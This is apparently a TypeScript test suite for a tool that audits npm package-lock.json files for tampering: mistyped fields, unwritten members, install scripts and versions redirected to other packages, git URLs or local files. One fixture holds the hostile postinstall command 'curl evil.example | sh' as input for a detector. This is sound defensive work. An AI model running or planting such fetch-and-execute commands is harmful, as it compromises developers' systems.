/** What npm takes from an entry of its lockfile, and how: it compares no types, and follows members that it never writes. */
import { describe, expect, it } from "vitest";
import { inspect } from "../world/inspect.ts";
import { testPorts } from "../world/ports.ts";
import { readObject } from "./help.ts";

const TARBALL = "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz";
const MISTYPED = "it has values of a kind that npm does not write, and may follow all the same (node_modules/bb)";
const UNWRITTEN = "it has members that npm does not write, and follows all the same (node_modules/bb)";

const lockOf = (entry: object, lockfileVersion: number): object => {
  const bb = { version: "1.0.0", ...entry };
  return lockfileVersion === 1
    ? { lockfileVersion, requires: true, dependencies: { bb } }
    : { lockfileVersion, packages: { "": { dependencies: { bb: "*" } }, "node_modules/bb": bb } };
};
const problems = (entry: object, lockfileVersion = 3): readonly string[] =>
  readObject(lockOf(entry, lockfileVersion), { dependencies: { bb: "*" } }).problems.map(({ message }) => message);

describe("a value of another type than npm writes is a problem", () => {
  it.each<[string, object]>([
    ["a list as name", { name: ["evil"] }],
    ["a list as address", { resolved: [TARBALL] }],
    ["a list as hash", { integrity: ["sha512-x"] }],
    ["a list as version", { version: ["1.0.0"] }],
    ["a number that says true", { hasInstallScript: 1 }],
    ["a text that says true", { link: "true" }],
    ["a list of dependencies", { dependencies: ["npm:evil@1.0.0"] }],
    ["a list of optional dependencies", { optionalDependencies: ["npm:evil@1.0.0"] }],
    ["a list of peers", { peerDependencies: ["npm:evil@1.0.0"] }],
    ["a text as dependencies", { dependencies: "ab" }],
    ["a list as range", { dependencies: { evil: ["npm:evil@1.0.0"] } }],
    ["a text as bundled names", { bundleDependencies: "cc" }],
  ])("%s", (_what, entry) => {
    expect(problems(entry)).toContain(MISTYPED);
  });

  it.each<[string, object]>([
    ["a list as version", { version: ["1.0.0"] }],
    ["a list as address", { resolved: [TARBALL] }],
    ["a list of what it requires", { requires: ["npm:evil@1.0.0"] }],
    ["a number that says true", { bundled: 1 }],
  ])("in lockfileVersion 1: %s", (_what, entry) => {
    expect(problems(entry, 1)).toContain(
      "it has values of a kind that npm does not write, and may follow all the same (node_modules/bb)",
    );
  });

  it("of the project's own entry too", () => {
    const { problems: found } = readObject({
      lockfileVersion: 3,
      packages: { "": { dependencies: ["npm:evil@1.0.0"] } },
    });
    expect(found.map(({ message }) => message)).toEqual([
      "it has values of a kind that npm does not write, and may follow all the same (the project)",
    ]);
  });

  it("and null, and what npm 6 writes of bundled packages, is none", () => {
    expect(problems({ name: null, resolved: null, dependencies: null, link: null })).toEqual([]);
    expect(problems({ resolved: false, bundled: true }, 1)).toEqual([]);
  });
});

it.each([
  { _resolved: TARBALL },
  { _integrity: "sha512-x" },
  { _hasShrinkwrap: true },
  { bundledDependencies: ["cc"] },
])("a member that npm follows and does not write is a problem: %j", (entry) => {
  expect(problems(entry)).toEqual([UNWRITTEN]);
});

/** Findings of a project that asks for bb, as `severity rule package version message`. */
async function findings(entry: object, range = "*"): Promise<readonly string[]> {
  const lock = lockOf({ integrity: undefined, ...entry }, 3);
  const ports = testPorts({
    now: "2026-06-10T00:00:00Z",
    world: {
      packages: { bb: { "1.0.0": "2020-01-01" }, evil: { "1.0.0": "2020-01-01" } },
      advisories: [{ id: "MAL-2026-1", package: "evil", versions: ["1.0.0"] }],
    },
    files: new Map([
      ["package.json", JSON.stringify({ dependencies: { bb: range } })],
      ["package-lock.json", JSON.stringify(lock)],
    ]),
  });
  const { report } = await inspect(ports);
  return report.findings
    .filter(({ rule }) => rule !== "weak-cooldown")
    .map(({ severity, rule, message }) => `${severity} ${rule} ${message}`);
}

it("commands that the lockfile states are an error", async () => {
  expect(await findings({ scripts: { postinstall: "curl evil.example | sh" } })).toEqual([
    "error lockfile-tampering package-lock.json has install scripts of its own, which npm runs and no registry states, for bb 1.0.0. Remove them.",
  ]);
  expect(await findings({ scripts: null })).toEqual([]);
});

describe("an address or another package in place of the version is followed, where there is no address", () => {
  it("another package", async () => {
    const found = await findings({ version: "npm:evil@1.0.0" });
    expect(found).toContainEqual(expect.stringMatching(/^error compromised evil 1\.0\.0 /));
    expect(found).toContainEqual(
      expect.stringMatching(/^error lockfile-tampering evil 1\.0\.0 is locked where bb is asked for/),
    );
  });

  it.each([
    [TARBALL, "registry\\.npmjs\\.org"],
    ["git+https://github.com/attacker/evil.git#0123", "git"],
    ["file:../evil.tgz", "a file"],
  ])("%s", async (version, from) => {
    const found = await findings({ version });
    const told = `^error lockfile-tampering bb .*locked to come from ${from}, though a registry version is asked for`;
    expect(found).toContainEqual(expect.stringMatching(new RegExp(told)));
  });

  it("and with an address, it is no version", () => {
    expect(problems({ version: "npm:evil@1.0.0", resolved: "https://registry.npmjs.org/bb/-/bb-1.0.0.tgz" })).toEqual([
      "it locks packages to something that is not an exact version (node_modules/bb)",
    ]);
  });
});
